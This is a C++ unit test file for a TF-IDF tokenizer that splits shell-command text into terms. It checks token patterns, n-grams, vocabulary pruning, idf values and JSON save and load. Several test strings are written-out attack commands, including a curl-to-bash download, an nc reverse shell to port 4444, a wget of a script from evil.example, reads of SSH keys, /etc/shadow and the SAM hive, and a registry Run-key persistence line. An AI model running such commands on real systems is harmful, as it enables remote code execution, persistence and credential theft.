// The TF-IDF term tokenizer: the artifact-keeping token pattern, scikit-learn's n-gram order, fit's
// document frequencies / min_df / max_features / alphabetical ids, smooth idf, and tfidf_vectorizer.json.
#include "data/tokenizers/term_tokenizer.h"

#include <cmath>
#include <fstream>

#include <nlohmann/json.hpp>

#include "base/errors.h"
#include "test_paths.h"

namespace attune::data {
namespace {

using Ids = std::vector<std::int64_t>;
using Strings = std::vector<std::string>;

// Three documents; "root" is counted 3 times over the corpus but is in only 2 of them.
const Strings kCorpus = {"cat /etc/passwd", "cat /etc/shadow | grep root", "grep root /var/log root"};

template <typename F>
std::string input_error(F&& f) {
  try {
    f();
  } catch (const InputError& e) {
    return e.what();
  }
  return "";
}

TEST(TermTokenizer, ArtifactTokensOfTheDocumentedExamples) {
  EXPECT_EQ(artifact_tokens("ls -la /etc/passwd"), (Strings{"ls", "-la", "/etc/passwd"}));
  EXPECT_EQ(artifact_tokens("curl http://10.0.0.5:8080/x.sh | bash"),
            (Strings{"curl", "http://10.0.0.5:8080/x.sh", "bash"}));
  EXPECT_EQ(artifact_tokens("nc 10.0.0.5 4444 -e /bin/sh"),
            (Strings{"nc", "10.0.0.5", "4444", "-e", "/bin/sh"}));
  EXPECT_EQ(artifact_tokens("echo $HOME ${PATH} %APPDATA%"),
            (Strings{"echo", "$HOME", "${PATH}", "%APPDATA%"}));
  EXPECT_EQ(artifact_tokens("grep --color=auto \"a b\""), (Strings{"grep", "--color=auto"}));
  EXPECT_EQ(artifact_tokens("cat x; whoami"), (Strings{"cat", "whoami"}));
}

TEST(TermTokenizer, ArtifactTokensKeepAddressesPathsFlagsAndVariablesWhole) {
  // IPv4 with :port or /prefix; trailing '.' and ':' are stripped first.
  EXPECT_EQ(artifact_tokens("ping 10.0.0.5. then 10.0.0.5:4444:"),
            (Strings{"ping", "10.0.0.5", "then", "10.0.0.5:4444"}));
  EXPECT_EQ(artifact_tokens("nmap 192.168.0.0/16 -p 1-1024"),
            (Strings{"nmap", "192.168.0.0/16", "-p", "1024"}));
  // Not addresses: an octet over 255, a port over 65535, a user@host: split into words.
  EXPECT_EQ(artifact_tokens("999.1.1.1 10.0.0.5:99999 root@10.0.0.5"),
            (Strings{"999", "10", "99999", "root", "10"}));
  // Windows paths and reg.exe's switches (a "/v" contains '/': a path).
  EXPECT_EQ(artifact_tokens("type C:\\Windows\\System32\\config\\SAM"),
            (Strings{"type", "C:\\Windows\\System32\\config\\SAM"}));
  EXPECT_EQ(artifact_tokens("reg.exe add HKLM\\Software\\Run /v Evil /d c:\\evil.exe /f"),
            (Strings{"reg", "exe", "add", "HKLM\\Software\\Run", "/v", "Evil", "/d", "c:\\evil.exe", "/f"}));
  EXPECT_EQ(artifact_tokens("cd ~ && cat ~/.ssh/id_rsa"), (Strings{"cd", "~", "cat", "~/.ssh/id_rsa"}));
  // URLs; '&' separates, so a query's second pair is a key=value of its own.
  EXPECT_EQ(artifact_tokens("wget https://evil.example/a.sh?x=1&y=2"),
            (Strings{"wget", "https://evil.example/a.sh?x=1", "y=2"}));
  // Flags: '-' then a letter, digit or '-'; a lone '-' is nothing.
  EXPECT_EQ(artifact_tokens("tar -xzf - -- -1"), (Strings{"tar", "-xzf", "--", "-1"}));
  // key=value needs a word key; environment variables need a name.
  EXPECT_EQ(artifact_tokens("export KEY=value PATH=/usr/bin: =x A_1="),
            (Strings{"export", "KEY=value", "PATH=/usr/bin", "A_1="}));
  EXPECT_EQ(artifact_tokens("echo $1 $ %s 50% $(whoami) `id`"),
            (Strings{"echo", "$1", "50", "whoami", "id"}));
  // Separators never appear inside a token.
  EXPECT_EQ(artifact_tokens("a|b;cc&dd(ee)ff\"gg'hh`ii<jj>kk,ll"),
            (Strings{"cc", "dd", "ee", "ff", "gg", "hh", "ii", "jj", "kk", "ll"}));
  EXPECT_EQ(artifact_tokens("done. end: x.y"), (Strings{"done", "end"}));
  // Non-ASCII characters are word characters; a single one is dropped like any single character.
  EXPECT_EQ(artifact_tokens("h\u00E9llo \u00E9 w\u00F6rld"), (Strings{"h\u00E9llo", "w\u00F6rld"}));
  EXPECT_TRUE(artifact_tokens(" \t\n ; | ").empty());
}

TEST(TermTokenizer, TermsAreUnigramsThenBigramsInScikitLearnOrder) {
  const auto tokenizer = TermTokenizer::fit(kCorpus, {});
  EXPECT_EQ(tokenizer->terms("LS -LA /Etc"), (Strings{"ls", "-la", "/etc", "ls -la", "-la /etc"}));
  EXPECT_EQ(tokenizer->terms("single"), (Strings{"single"}));
  EXPECT_TRUE(tokenizer->terms("x ; y").empty());
  EXPECT_EQ(ngrams({"a1", "b2", "c3"}, 3), (Strings{"a1", "b2", "c3", "a1 b2", "b2 c3", "a1 b2 c3"}));
  EXPECT_EQ(ngrams({"a1", "b2", "c3"}, 1), (Strings{"a1", "b2", "c3"}));
  TermSettings cased;
  cased.lower = false;
  cased.ngram_max = 1;
  EXPECT_EQ(TermTokenizer::fit(kCorpus, cased)->terms("LS -LA"), (Strings{"LS", "-LA"}));
}

TEST(TermTokenizer, FitSortsTheVocabularyAlphabeticallyFromIdOne) {
  const auto tokenizer = TermTokenizer::fit(kCorpus, {});
  EXPECT_EQ(tokenizer->kind(), TokenizerKind::kTerms);
  EXPECT_EQ(
      tokenizer->vocabulary(),
      (Strings{"<pad>", "/etc/passwd", "/etc/shadow", "/etc/shadow grep", "/var/log", "/var/log root", "cat",
               "cat /etc/passwd", "cat /etc/shadow", "grep", "grep root", "root", "root /var/log"}));
  EXPECT_EQ(tokenizer->vocab_size(), 13);
  EXPECT_EQ(tokenizer->pad_id(), 0);
  EXPECT_EQ(tokenizer->unk_id(), -1);
  EXPECT_EQ(tokenizer->document_count(), 3);
}

TEST(TermTokenizer, MinDfAndMaxFeaturesPruneTerms) {
  TermSettings min_df;
  min_df.min_df = 2;
  EXPECT_EQ(TermTokenizer::fit(kCorpus, min_df)->vocabulary(),
            (Strings{"<pad>", "cat", "grep", "grep root", "root"}));
  // max_features keeps the highest total counts: root (3), then the alphabetically first of the 2s.
  TermSettings top;
  top.max_features = 2;
  EXPECT_EQ(TermTokenizer::fit(kCorpus, top)->vocabulary(), (Strings{"<pad>", "cat", "root"}));
  top.max_features = 1;
  EXPECT_EQ(TermTokenizer::fit(kCorpus, top)->vocabulary(), (Strings{"<pad>", "root"}));
  top.max_features = 100;  // more than there are
  EXPECT_EQ(TermTokenizer::fit(kCorpus, top)->vocab_size(), 13);
  TermSettings unigrams;
  unigrams.ngram_max = 1;
  EXPECT_EQ(TermTokenizer::fit(kCorpus, unigrams)->vocabulary(),
            (Strings{"<pad>", "/etc/passwd", "/etc/shadow", "/var/log", "cat", "grep", "root"}));

  TermSettings too_high;
  too_high.min_df = 4;
  EXPECT_NE(input_error([&] { TermTokenizer::fit(kCorpus, too_high); }).find("no term"), std::string::npos);
  EXPECT_NE(input_error([] { TermTokenizer::fit({}, {}); }).find("no texts"), std::string::npos);
  TermSettings bad;
  bad.ngram_max = 0;
  EXPECT_NE(input_error([&] { TermTokenizer::fit(kCorpus, bad); }).find("ngram_max"), std::string::npos);
}

// scikit-learn's smooth idf: ln((1 + n) / (1 + df)) + 1 with n = 3 documents.
TEST(TermTokenizer, IdfIsSmoothIdfOfTheDocumentFrequency) {
  const auto tokenizer = TermTokenizer::fit(kCorpus, {});
  const auto& idf = tokenizer->idf();
  ASSERT_EQ(static_cast<std::int64_t>(idf.size()), tokenizer->vocab_size());
  const double df1 = std::log((1.0 + 3) / (1.0 + 1)) + 1;
  const double df2 = std::log((1.0 + 3) / (1.0 + 2)) + 1;
  auto idf_of = [&](const std::string& term) {
    return idf[static_cast<std::size_t>(*tokenizer->token_to_id(term))];
  };
  EXPECT_EQ(idf[0], 0.0f);
  EXPECT_NEAR(idf_of("cat"), df2, 1e-6);
  EXPECT_NEAR(idf_of("grep"), df2, 1e-6);
  EXPECT_NEAR(idf_of("root"), df2, 1e-6);  // 3 occurrences, 2 documents
  EXPECT_NEAR(idf_of("grep root"), df2, 1e-6);
  EXPECT_NEAR(idf_of("/etc/passwd"), df1, 1e-6);
  EXPECT_NEAR(idf_of("/var/log root"), df1, 1e-6);
  EXPECT_NEAR(idf_of("cat /etc/shadow"), df1, 1e-6);
}

TEST(TermTokenizer, EncodeKeepsKnownTermsInTermOrderAndNeverReturnsAnEmptyRow) {
  const auto tokenizer = TermTokenizer::fit(kCorpus, {});
  auto id = [&](const std::string& term) { return *tokenizer->token_to_id(term); };
  EXPECT_EQ(tokenizer->encode("CAT /etc/passwd nosuch"),
            (Ids{id("cat"), id("/etc/passwd"), id("cat /etc/passwd")}));
  EXPECT_EQ(tokenizer->encode("root root"), (Ids{id("root"), id("root")}));  // repeats kept: term counts
  EXPECT_EQ(tokenizer->encode("unknown words only"), (Ids{0}));
  EXPECT_EQ(tokenizer->encode(" ; "), (Ids{0}));
  EXPECT_EQ(tokenizer->num_special_tokens(false), 0);
  EXPECT_EQ(tokenizer->encode("grep root", true), (Ids{id("grep"), id("root"), id("grep root")}));
  EXPECT_EQ(tokenizer->encode("grep root", true, 2), (Ids{id("grep"), id("root")}));
  EXPECT_EQ(tokenizer->decode(tokenizer->encode("grep root")), "grep | root | grep root");
}

TEST(TermTokenizer, EmptyTextEncodesToPad) {
  const auto tokenizer = TermTokenizer::fit(kCorpus, {});
  EXPECT_EQ(tokenizer->encode(""), (Ids{0}));
  EXPECT_EQ(tokenizer->encode_batch({"", "cat"}), (std::vector<Ids>{{0}, {*tokenizer->token_to_id("cat")}}));
}

// A literal "<pad>" is the pad token to the base, matched before the terms: n-grams do not span it, and
// fit counts what encode sees.
TEST(TermTokenizer, PadLiteralSplitsTheText) {
  const auto tokenizer = TermTokenizer::fit({"foo<pad>bar"}, {});
  EXPECT_EQ(tokenizer->vocabulary(), (Strings{"<pad>", "bar", "foo"}));
  EXPECT_EQ(tokenizer->encode("foo<pad>bar"), (Ids{2, 0, 1}));
}

TEST(TermTokenizer, SaveFromFileAndLoadTokenizerRoundTrip) {
  TermSettings settings;
  settings.ngram_max = 3;
  settings.max_features = 10;
  const auto tokenizer = TermTokenizer::fit(kCorpus, settings);
  const auto dir = testing::temp_dir("terms-roundtrip") / "tokenizer";  // created by save
  tokenizer->save(dir);

  const nlohmann::json json = nlohmann::json::parse(std::ifstream(dir / "tfidf_vectorizer.json"));
  EXPECT_EQ(json["tokenizer"], "attune-tfidf-terms");
  EXPECT_EQ(json["ngram_max"], 3);
  EXPECT_EQ(json["min_df"], 1);
  EXPECT_EQ(json["max_features"], 10);
  EXPECT_EQ(json["lower"], true);
  EXPECT_EQ(json["smooth_idf"], true);
  EXPECT_EQ(json["norm"], "l2");
  EXPECT_EQ(json["document_count"], 3);
  EXPECT_EQ(json["vocabulary"]["<pad>"], 0);
  EXPECT_EQ(json["vocabulary"].size(), 11u);
  EXPECT_EQ(json["idf"].size(), 11u);

  const auto loaded = TermTokenizer::from_file(dir / "tfidf_vectorizer.json");
  const auto factory = load_tokenizer(dir);
  EXPECT_EQ(factory->kind(), TokenizerKind::kTerms);
  EXPECT_EQ(loaded->vocabulary(), tokenizer->vocabulary());
  EXPECT_EQ(loaded->idf(), tokenizer->idf());
  EXPECT_EQ(loaded->document_count(), 3);
  EXPECT_EQ(loaded->settings().ngram_max, 3);
  for (const auto& text : {std::string("cat /etc/shadow | grep root"), std::string("GREP root /var/log"),
                           std::string("nothing known"), std::string("")}) {
    EXPECT_EQ(loaded->encode(text), tokenizer->encode(text)) << text;
    EXPECT_EQ(factory->encode(text), tokenizer->encode(text)) << text;
  }
}

TEST(TermTokenizer, MalformedVectorizerJsonIsAnInputErrorNamingFileAndKey) {
  const auto dir = testing::temp_dir("terms-malformed");
  const auto file = dir / "tfidf_vectorizer.json";
  auto error_for = [&](const std::string& body) {
    std::ofstream(file, std::ios::trunc)
        << R"({"tokenizer": "attune-tfidf-terms", "ngram_max": 2, "min_df": 1, "max_features": 0,)"
        << R"( "lower": true, "smooth_idf": true, "norm": "l2", )" << body << "}";
    return input_error([&] { TermTokenizer::from_file(file); });
  };
  EXPECT_EQ(error_for(R"("document_count": 3, "vocabulary": {"<pad>": 0, "ab": 1}, "idf": [0, 1.5])"), "");

  std::string message = error_for(R"("document_count": 3, "vocabulary": {"<pad>": 0, "ab": 1}, "idf": [0])");
  EXPECT_NE(message.find(file.string()), std::string::npos) << message;
  EXPECT_NE(message.find("key idf: expected 2 values"), std::string::npos) << message;
  message = error_for(R"("document_count": 3, "vocabulary": {"<pad>": 0, "ab": 0}, "idf": [0, 1])");
  EXPECT_NE(message.find("key vocabulary: expected ids 0..1 each once"), std::string::npos) << message;
  message = error_for(R"("document_count": 3, "vocabulary": {"<pad>": 1, "ab": 0}, "idf": [0, 1])");
  EXPECT_NE(message.find("key vocabulary: expected \"<pad>\": 0"), std::string::npos) << message;
  message = error_for(R"("document_count": 3, "vocabulary": {"<pad>": 0, "ab": 1}, "idf": [0, "x"])");
  EXPECT_NE(message.find("key idf[1]"), std::string::npos) << message;
  message = error_for(R"("document_count": 3, "vocabulary": {"<pad>": 0, "ab": 1}, "idf": [1, 1])");
  EXPECT_NE(message.find("key idf[0]"), std::string::npos) << message;
  message = error_for(R"("vocabulary": {"<pad>": 0}, "idf": [0])");
  EXPECT_NE(message.find("key document_count: expected an integer"), std::string::npos) << message;
  message = error_for(R"("document_count": 3, "idf": [0])");
  EXPECT_NE(message.find("key vocabulary: expected an object"), std::string::npos) << message;

  std::ofstream(file, std::ios::trunc) << R"({"tokenizer": "attune-tfidf-terms", "ngram_max": 2, "min_df": 1,
      "max_features": 0, "lower": true, "smooth_idf": false, "norm": "l2"})";
  message = input_error([&] { TermTokenizer::from_file(file); });
  EXPECT_NE(message.find("key smooth_idf: expected true"), std::string::npos) << message;
  std::ofstream(file, std::ios::trunc) << R"({"tokenizer": "attune-tfidf-terms", "ngram_max": 0, "min_df": 1,
      "max_features": 0, "lower": true})";
  message = input_error([&] { TermTokenizer::from_file(file); });
  EXPECT_NE(message.find("key ngram_max: expected at least 1"), std::string::npos) << message;
  std::ofstream(file, std::ios::trunc) << R"({"tokenizer": "sklearn"})";
  message = input_error([&] { TermTokenizer::from_file(file); });
  EXPECT_NE(message.find("key tokenizer: expected \"attune-tfidf-terms\""), std::string::npos) << message;
  std::ofstream(file, std::ios::trunc) << "[1, 2";
  message = input_error([&] { load_tokenizer(dir); });
  EXPECT_NE(message.find(file.string()), std::string::npos) << message;
}

}  // namespace
}  // namespace attune::data
